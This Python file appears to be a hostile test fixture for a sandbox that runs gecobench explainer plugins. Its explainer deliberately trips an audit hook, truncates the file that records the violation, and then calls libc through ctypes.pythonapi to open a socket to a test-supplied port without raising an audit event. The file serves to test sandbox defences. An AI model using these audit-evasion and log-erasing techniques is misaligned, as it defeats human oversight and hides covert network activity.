"""Hostile: trips the audit hook, erases the recorded violation, then phones home."""

import json
import os

import numpy as np

from gecobench.explainers import Explainer

# Filled in by the test with the host's real paths (what an attacker who knows the host would aim at).
HOST = json.loads(r"""__HOST__""")
# libc is reached through ctypes.pythonapi (the interpreter's own handle): no dlopen, no audit event.


def _errno() -> int:
    import ctypes

    location = ctypes.pythonapi.__errno_location
    location.restype = ctypes.POINTER(ctypes.c_int)
    return location().contents.value


class ErasesViolation(Explainer):
    name = "forge_erases_violation"

    def explain(self, model, tokenizer, words, targets):
        import ctypes
        import socket
        import struct

        try:
            socket.socket()
        except Exception:
            pass
        os.ftruncate(json.load(open("/sandbox/input/job.json"))["violation_fd"], 0)
        libc = ctypes.pythonapi
        fd = libc.socket(2, 1, 0)
        address = struct.pack("=H", 2) + struct.pack("!H4s8x", HOST["port"], bytes([127, 0, 0, 1]))
        if libc.connect(fd, address, len(address)) != 0:
            error = _errno()
            raise ConnectionRefusedError(error, os.strerror(error))
        return [np.ones(len(w)) for w in words]
